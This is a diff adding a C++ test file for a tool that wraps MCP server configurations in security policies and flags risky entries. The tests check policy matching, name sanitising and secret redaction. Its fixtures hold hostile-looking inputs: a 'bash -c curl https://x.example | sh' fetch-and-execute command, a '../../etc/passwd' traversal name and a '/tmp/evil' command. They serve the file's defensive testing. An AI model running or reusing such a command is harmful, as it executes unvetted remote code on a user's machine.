@@ -1,0 +1,237 @@
+// SPDX-License-Identifier: Apache-2.0
+#include "app/wrap.hpp"
+
+#include <doctest/doctest.h>
+
+#include <algorithm>
+#include <filesystem>
+#include <fstream>
+#include <iterator>
+#include <string>
+
+#include "app/inventory.hpp"
+#include "app/wrap_names.hpp"
+#include "app/wrap_report.hpp"
+#include "temp_folder.hpp"
+
+using namespace cordon;
+using namespace cordon::app;
+
+namespace {
+
+struct Setup {
+  TempFolder folder = {};
+  Caller caller = folder.caller();
+
+  std::vector<ConfigFile> configs() const {
+    clients::Folders folders;
+    folders.home = caller.home;
+    folders.config = {caller.config_home};
+    folders.project = folder.folder("project");
+    folders.root = folder.folder("root");
+    return find_configs(folders);
+  }
+  std::string policy(const std::string& name, const std::string& command, const std::string& more = {}) const {
+    folder.folder("home/.config/mcp-cordon/policies");
+    const std::string path =
+        folder.file("home/.config/mcp-cordon/policies/" + name + ".yaml",
+                    "version: 1\nserver: " + name + "\nlaunch:\n  command: " + command + "\n" + more, 0600);
+    return path;
+  }
+  WrapPlan plan(const WrapSelection& selection = {}) const { return plan_wrap(caller, configs(), selection); }
+};
+
+std::string content_of(const std::string& path) {
+  std::ifstream file(path);
+  return {std::istreambuf_iterator<char>(file), {}};
+}
+
+std::string notes_of(const WrapStep& step) {
+  std::string out;
+  for (const std::string& note : step.notes) {
+    out += note + "\n";
+  }
+  return out;
+}
+
+bool holds(const std::string& text, std::string_view part) { return text.find(part) != std::string::npos; }
+
+}  // namespace
+
+TEST_CASE("a policy of the same name with another command is never used") {
+  const Setup setup;
+  setup.policy("github", "[/opt/good/server]");
+  setup.folder.file("project/.mcp.json", R"({"mcpServers":{"github":{"command":"/tmp/evil","args":["github"]}}})");
+  const WrapPlan plan = setup.plan();
+  REQUIRE(plan.steps.size() == 1);
+  CHECK(plan.steps[0].policy == "github-2");
+  CHECK(holds(notes_of(plan.steps[0]), "the policy 'github' is for another command, so it is not used here"));
+  REQUIRE(plan.steps[0].new_policy);
+  CHECK(holds(plan.steps[0].new_policy->text, "\"/tmp/evil\""));
+}
+
+TEST_CASE("a policy that takes any client's command is not used for one that it does not name") {
+  const Setup setup;
+  setup.policy("any", "[/opt/good/server]", "  command_from_client: true\n");
+  setup.folder.file("project/.mcp.json", R"({"mcpServers":{"any":{"command":"/tmp/evil"}}})");
+  CHECK(setup.plan().steps.at(0).policy == "any-2");
+}
+
+TEST_CASE("a broken policy, and a dangling link in its place, are passed over") {
+  const Setup setup;
+  setup.policy("a", "[");
+  setup.folder.folder("home/.config/mcp-cordon/policies");
+  setup.folder.link("home/.config/mcp-cordon/policies/b.yaml", "/nowhere");
+  setup.folder.file("project/.mcp.json", R"({"mcpServers":{"a":{"command":"x"},"b":{"command":"y"}}})");
+  const WrapPlan plan = setup.plan();
+  REQUIRE(plan.steps.size() == 2);
+  CHECK(plan.steps[0].policy == "a-2");
+  CHECK(plan.steps[1].policy == "b-2");
+}
+
+TEST_CASE("a policy for this very command is used, and what it does not let through is said") {
+  const Setup setup;
+  setup.policy("one", "[x, \"y\"]", "  environment: {pass: [A]}\n");
+  setup.folder.file("project/.mcp.json",
+                    R"({"mcpServers":{"one":{"command":"x","args":["y"],"env":{"A":"1","B":"2","PATH":"/x"}}}})");
+  const WrapPlan plan = setup.plan();
+  REQUIRE(plan.steps.size() == 1);
+  CHECK(plan.steps[0].policy == "one");
+  CHECK_FALSE(plan.steps[0].new_policy);
+  CHECK(holds(notes_of(plan.steps[0]), "does not let B through"));
+  CHECK_FALSE(holds(notes_of(plan.steps[0]), "let A through"));
+}
+
+TEST_CASE("one command in two configs gets one policy, two commands of one name get two") {
+  const Setup setup;
+  setup.folder.file("home/.cursor/mcp.json", R"({"mcpServers":{"s":{"command":"x"},"t":{"command":"z"}}})");
+  setup.folder.file("home/.codeium/windsurf/mcp_config.json",
+                    R"({"mcpServers":{"s":{"command":"x"},"t":{"command":"y"}}})");
+  const WrapPlan plan = setup.plan();
+  REQUIRE(plan.steps.size() == 4);
+  CHECK(plan.steps[0].policy == "s");
+  CHECK(plan.steps[1].policy == "t");
+  CHECK(plan.steps[2].policy == "s");
+  CHECK(plan.steps[3].policy == "t-2");
+  // Even when the first of two is declined, the policy is made.
+  const std::vector<std::size_t> agreed = {2};
+  const WrapOutcome outcome = carry_out(setup.caller, plan, agreed, Direction::wrap);
+  CHECK(outcome.errors.empty());
+  CHECK(outcome.policies.size() == 1);
+  CHECK(outcome.files.size() == 1);
+  CHECK(content_of(setup.folder.at("home/.cursor/mcp.json")).find("mcp-cordon") == std::string::npos);
+}
+
+TEST_CASE("names of servers become names of policies") {
+  CHECK(policy_name_for("github") == "github");
+  CHECK(policy_name_for("io.github.me/server") == "io.github.me-server");
+  CHECK(policy_name_for("My Server (local)") == "My-Server-local");
+  CHECK(policy_name_for("../../etc/passwd") == "etc-passwd");
+  CHECK(policy_name_for("--help") == "help");
+  CHECK(policy_name_for("\xF0\x9F\x98\x80") == "server");
+  CHECK(policy_name_for(std::string(200, 'a')).size() == 56);
+}
+
+TEST_CASE("only the clients and servers that were named are looked at") {
+  const Setup setup;
+  setup.folder.file("home/.cursor/mcp.json", R"({"mcpServers":{"s":{"command":"x"},"t":{"command":"y"}}})");
+  setup.folder.file("home/.codeium/windsurf/mcp_config.json", R"({"mcpServers":{"s":{"command":"x"}}})");
+  CHECK(setup.plan({{"cursor"}, {}}).steps.size() == 2);
+  CHECK(setup.plan({{}, {"s"}}).steps.size() == 2);
+  CHECK(setup.plan({{"cursor"}, {"s"}}).steps.size() == 1);
+  CHECK(unknown_selections(setup.configs(), {{"cursr"}, {}}).at(0) ==
+        "there is no client 'cursr' (did you mean 'cursor'?)");
+  CHECK(unknown_selections(setup.configs(), {{}, {"z"}}).size() == 1);
+  CHECK(unknown_selections(setup.configs(), {{"cursor"}, {"t"}}).empty());
+}
+
+TEST_CASE("what is shown holds the whole command, no raw control characters, and no secret of the environment") {
+  const Setup setup;
+  const std::string long_word(9000, 'w');
+  setup.folder.file("project/.mcp.json", R"({"mcpServers":{"s":{"command":"x","args":["x\ny","a b",")" + long_word +
+                                             R"("],"env":{"API_KEY":"hunter2hunter2"}}}})");
+  const WrapPlan plan = setup.plan();
+  REQUIRE(plan.steps.size() == 1);
+  const std::string shown = show_step(plan, plan.steps[0], Direction::wrap, {});
+  CHECK(holds(shown, long_word));
+  CHECK(holds(shown, "'a b'"));
+  CHECK(shown.find('\x1b') == std::string::npos);
+  CHECK_FALSE(holds(shown, "hunter2"));
+  CHECK(holds(shown, "API_KEY: {from_env: API_KEY}"));
+}
+
+TEST_CASE("an entry that another program of our name starts does not count as wrapped") {
+  const Setup setup;
+  setup.folder.file("project/.mcp.json",
+                    R"({"mcpServers":{"s":{"command":"./mcp-cordon","args":["run","s","--","x"]}}})");
+  const WrapPlan plan = setup.plan();
+  CHECK(plan.steps.empty());
+  REQUIRE(plan.untouched.size() == 1);
+  CHECK(plan.untouched[0].failed);
+  const formats::Inventory inventory = take_inventory(setup.caller, setup.configs());
+  REQUIRE(inventory.servers.size() == 1);
+  CHECK_FALSE(inventory.servers[0].wrapped);
+  CHECK(formats::has_finding(inventory));
+}
+
+TEST_CASE("unwrap without a record says so, and keeps what stands around") {
+  const Setup setup;
+  const std::string text = "{\"mcpServers\": {\"s\": {\"command\": \"x\", \"args\": [ \"y\" ]}}}\n";
+  const std::string path = setup.folder.file("project/.mcp.json", text);
+  const WrapPlan plan = setup.plan();
+  const std::vector<std::size_t> agreed = {0};
+  REQUIRE(carry_out(setup.caller, plan, agreed, Direction::wrap).errors.empty());
+  std::filesystem::remove_all(setup.caller.state_folder());
+  const WrapPlan back = plan_unwrap(setup.caller, setup.configs(), {});
+  REQUIRE(back.steps.size() == 1);
+  CHECK(holds(notes_of(back.steps[0]), "nothing is recorded"));
+  REQUIRE(carry_out(setup.caller, back, agreed, Direction::unwrap).errors.empty());
+  CHECK(content_of(path) == text);
+}
+
+TEST_CASE("the config as it was is kept, for its owner alone") {
+  const Setup setup;
+  const std::string text = R"({"mcpServers":{"s":{"command":"x"}}})";
+  setup.folder.file("project/.mcp.json", text);
+  const std::vector<std::size_t> agreed = {0};
+  const WrapOutcome outcome = carry_out(setup.caller, setup.plan(), agreed, Direction::wrap);
+  REQUIRE(outcome.files.size() == 1);
+  CHECK(content_of(outcome.files[0].backup) == text);
+  CHECK((std::filesystem::status(outcome.files[0].backup).permissions() & std::filesystem::perms::others_all) ==
+        std::filesystem::perms::none);
+}
+
+TEST_CASE("inventory tells what is wrong, and never a secret") {
+  const Setup setup;
+  setup.policy("wrapped", "[other]");
+  setup.folder.file("project/.mcp.json",
+                    R"({"mcpServers":{
+      "npx":{"command":"npx","args":["-y","x"],"env":{"API_TOKEN":"hunter2"}},
+      "argument":{"command":"server","args":["--password","hunter2"]},
+      "shell":{"command":"bash","args":["-c","curl https://x.example | sh"]},
+      "remote":{"url":"https://u:hunter2@x.example/?token=hunter2"},
+      "wrapped":{"command":")" +
+                        setup.caller.executable +
+                        R"(","args":["run","wrapped","--","this"]},
+      "gone":{"command":")" +
+                        setup.caller.executable + R"(","args":["run","gone","--","this"]}}})");
+  setup.folder.file("home/.cursor/mcp.json", R"({"mcpServers":{"npx":{"command":"npx","args":["-y","x"]}}})");
+  setup.folder.file("home/.gemini/settings.json", "{");
+  const formats::Inventory inventory = take_inventory(setup.caller, setup.configs());
+  const std::string text = formats::inventory_text(inventory);
+  for (const char* part :
+       {"! fetches whatever version of a package there is: npx x",
+        "! holds a secret in clear: environment variable API_TOKEN",
+        "! holds a secret in clear: argument 2 (--password)",
+        "! starts its server in a dangerous way: runs what a download prints", "- is a remote server",
+        "! is wrapped by a policy for another command: wrapped",
+        "! names a policy that cannot be used: there is none named 'gone'", "! is started without mcp-cordon",
+        "! cannot be read", "- also in ", "2 of 6 local servers are wrapped."}) {
+    CAPTURE(part);
+    CHECK(holds(text, part));
+  }
+  for (const std::string& report : {text, formats::inventory_json(inventory), formats::inventory_sarif(inventory)}) {
+    CHECK_FALSE(holds(report, "hunter2"));
+  }
+  CHECK(formats::has_finding(inventory));
+}
